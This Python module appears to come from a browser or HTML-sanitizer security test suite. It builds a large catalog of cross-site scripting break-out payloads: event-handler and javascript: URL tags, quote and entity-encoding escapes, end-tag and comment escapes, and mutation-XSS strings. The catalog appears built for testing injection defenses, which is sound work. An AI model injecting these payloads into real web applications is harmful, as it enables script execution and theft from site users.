r"""Break-outs of markup: tags, ends of values, elements and comments, references."""

from browser.attacks.break_outs import IMAGE, RUN, SCRIPT, BreakOut, as_break_outs

__all__ = ("markup_break_outs",)

HANDLER = f"onfocus={RUN} onclick={RUN} autofocus tabindex=0 pwned=NUMBER"

TAGS = (
    IMAGE,
    SCRIPT,
    f"<svg onload={RUN} pwned=NUMBER>",
    f"<iframe pwned=NUMBER srcdoc='&lt;script>{RUN}&lt;/script>'></iframe>",
    f"<svg/onload={RUN}\tpwned=NUMBER/>",
    f"<svg><animate onbegin={RUN} pwned=NUMBER attributeName=x dur=1s>",
    f"<svg><a pwned=NUMBER><animate attributeName=href values=javascript:{RUN} dur=9s /><text>x",
    f"<svg><script pwned=NUMBER>{RUN.replace('=', '&#61;')}</script></svg>",
    f"<math pwned=NUMBER><mtext><a href=javascript:{RUN}>x",
    f"<iframe pwned=NUMBER src=javascript:{RUN}></iframe>",
    f"<input {HANDLER}>",
    f"<x-y {HANDLER}>",
    f"<details open pwned=NUMBER ontoggle={RUN}><summary>x</summary></details>",
    (
        "<style>@keyframes k{}</style>"
        f"<b style='animation:k 9s' pwned=NUMBER onanimationstart={RUN}>"
    ),
    f"<a pwned=NUMBER href=javascript:{RUN}>x</a>",
    f"<form pwned=NUMBER action=javascript:{RUN}><button>x</button></form>",
    f"<button pwned=NUMBER form=f formaction=javascript:{RUN}>x</button><form id=f></form>",
    f"<p pwned=NUMBER data-init={RUN}>",
    f"<p pwned=NUMBER data-on:click={RUN}>",
    f"<p pwned=NUMBER data-text={RUN}>",
    f"<IMG SRC=x: ONERROR={RUN} PWNED=NUMBER>",
    f"<img\fsrc=x:\fonerror={RUN}\fpwned=NUMBER>",
    f"<img/src=x:/onerror={RUN}/ pwned=NUMBER ",
    f"<img src=x: onerror={RUN} pwned=NUMBER //",
    f'<<img src=x: onerror="{RUN}" pwned="NUMBER">',
    f"<img src='x:' onerror='{RUN}' pwned='NUMBER'>",
    f"<image src=x: onerror={RUN} pwned=NUMBER>",
    f"\N{ZERO WIDTH NO-BREAK SPACE}{IMAGE}",
    f"\0{IMAGE}",
    f"<img\0 src=x:>{IMAGE}",
    f"\u2028{IMAGE}\u2029",
    f"\x85\x0b\x1c{IMAGE}",
    f"\x1b$B{IMAGE}\x1b(B",
    f"${{{IMAGE}}}",
    f"{{{{{IMAGE}}}}}",
    f"<{'b' * 300}>{IMAGE}",
)

# These end a value in quotes of the kind Q, and its attribute or tag.
IN_QUOTES = (
    f"Q>{IMAGE}",
    f"xQ {HANDLER} x=Q",
    f"Q/>{SCRIPT}",
    "xQ\t" + HANDLER.replace(" ", "\t") + " x=Q",
    "xQ\n" + HANDLER.replace(" ", "\r\n") + "\r\nx=Q",
    "xQ\f" + HANDLER.replace(" ", "\f") + "\fx=Q",
    f"x Q {HANDLER} x=Q",
    f"xQ /onfocus='{RUN}'/autofocus/pwned='NUMBER'/x=Q",
    f"xQ data-init={RUN} pwned=NUMBER x=Q",
    f"\\Q><x x=QQ>{IMAGE}",
    f"\0Q>{IMAGE}",
)

REFERENCES = (
    f"&lt;img src=x: onerror={RUN} pwned=NUMBER&gt;",
    f"&#60;img src=x: onerror={RUN} pwned=NUMBER&#62;",
    f"&LT;img src=x: onerror={RUN} pwned=NUMBER&GT;",
    f"&#x3c;img src=x: onerror={RUN} pwned=NUMBER>",
    f"&#x0003Cimg src=x: onerror={RUN} pwned=NUMBER>",
    f"&lt&#0000105mg src=x: onerror={RUN} pwned=NUMBER>",
)
REFERENCES_TWICE = (
    f"&amp;lt;img src=x: onerror={RUN} pwned=NUMBER&amp;gt;",
    f"&#38;lt;img src=x: onerror={RUN} pwned=NUMBER>",
)
QUOTES_AS_REFERENCES = tuple(
    f"x{mark} {HANDLER} x={mark}" for mark in ("&quot;", "&#34;", "&#x22;", "&QUOT;")
)

# Elements whose content a parser reads as text, and elements that change how it reads tags.
RAW_TEXT = (
    "script",
    "style",
    "title",
    "textarea",
    "noscript",
    "iframe",
    "xmp",
    "noembed",
    "noframes",
)
STRUCTURE = (
    *("template", "svg", "math", "select", "table", "p", "a", "button", "form", "option", "body"),
    *("html", "head", "foreignObject", "desc", "annotation-xml", "mtext", "caption", "td"),
)
END_TAGS = ("</N >", "</N/>", "</N\n>", "</N\fx>", "</N\t/", "</N ")

COMMENT_ENDS = ("-->", "--!>", ">", "->", "--><!--x-->", "--!>--!>", "---->", "- -->")

# These become another tree if they are serialized and parsed again.
MUTATIONS = (
    f'<noscript><p title="</noscript>{IMAGE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    f'<svg></p><style><a id="</style>{IMAGE}">',
    f'<math><annotation-xml encoding="text/html"><style></annotation-xml></style>{IMAGE}',
    f"<math><mi><malignmark><style>{IMAGE}</style>",
    f"<select><style></select>{IMAGE}</style>{IMAGE}",
    f"<table><select><table>{IMAGE}",
    f'<template><style></template><p title="</style>{IMAGE}">{IMAGE}',
    f'<xmp><p title="</xmp>{IMAGE}">',
    f"<svg><title><style>{IMAGE}</style>{IMAGE}",
    f"<svg><desc><p><![CDATA[</desc>{IMAGE}]]>",
    f"<svg><foreignObject><p><style></p><title></style>{IMAGE}</title>{IMAGE}",
    f"<a><svg><a><style></a>{IMAGE}",
    f"<p><table><p><select><option><p>{IMAGE}",
    f"<button><p><button></p>{IMAGE}",
    f"<h1><svg><h2><mglyph>{IMAGE}",
    f"<frameset><frame></frameset><noframes></noframes>{IMAGE}",
)
SLEEPING_MUTATIONS = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
    f"<plaintext></plaintext>{IMAGE}",
)
SURROGATES = (f'\ud800">{IMAGE}', f"\udc00' {HANDLER} x='")


def markup_break_outs() -> list[BreakOut]:
    """Return them all."""
    return [
        *as_break_outs("markup", "<div>RAW</div>", TAGS, core=4),
        *_quotes(),
        *_references(),
        *_end_tags(),
        *_comments(),
        *as_break_outs("mutation", "<div>RAW</div>", MUTATIONS, core=2),
        *as_break_outs("mutation", (), SLEEPING_MUTATIONS),
    ]


def _quotes() -> list[BreakOut]:
    found: list[BreakOut] = []
    for mark in ('"', "'", ""):
        texts = [text.replace("Q", mark) for text in IN_QUOTES]
        found += as_break_outs("quote", f"<p title={mark}RAW{mark}>x</p>", texts, core=2)
    found += as_break_outs("quote", "<p title=`RAW`>x</p>", [f"`>{IMAGE}"])
    return found + as_break_outs("surrogate", (), SURROGATES, core=1)


def _references() -> list[BreakOut]:
    once = "<iframe srcdoc='RAW'></iframe>"
    twice = "<iframe srcdoc='&lt;iframe srcdoc=&#34;RAW&#34;>'></iframe>"
    in_quotes = "<iframe srcdoc='<b title=\"RAW\">x</b>'></iframe>"
    return [
        *as_break_outs("reference", once, REFERENCES, core=2),
        *as_break_outs("reference", twice, REFERENCES_TWICE, core=1),
        *as_break_outs("reference", in_quotes, QUOTES_AS_REFERENCES, core=1),
    ]


def _end_tags() -> list[BreakOut]:
    found: list[BreakOut] = []
    for name in RAW_TEXT:
        texts = [f"</{name}>{IMAGE}"]
        for tag in END_TAGS:
            spelt = tag.replace("N", name.upper())
            texts.append(spelt + ("" if ">" in spelt else ">") + SCRIPT)
        found += as_break_outs("end", f"<{name}>RAW</{name}>", texts, core=1)
    texts = [f"</{name}>{IMAGE}" for name in STRUCTURE]
    return found + as_break_outs("end", "<div>RAW</div>", texts, core=4)


def _comments() -> list[BreakOut]:
    texts = [end + IMAGE for end in COMMENT_ENDS]
    openings = [f"{start}{IMAGE}" for start in ("<!-->", "<!--->", "<![CDATA[>", "<?>", "</ x>")]
    hidden = f"<script></script></script>{IMAGE}"
    return [
        *as_break_outs("comment", "<!--RAW-->", texts, core=2),
        *as_break_outs("comment", "<svg><![CDATA[RAW]]></svg>", [f"]]>{IMAGE}"], core=1),
        *as_break_outs("comment", "<div>RAW</div>", openings),
        *as_break_outs("comment", "<script><!--RAW--></script>", [hidden]),
    ]
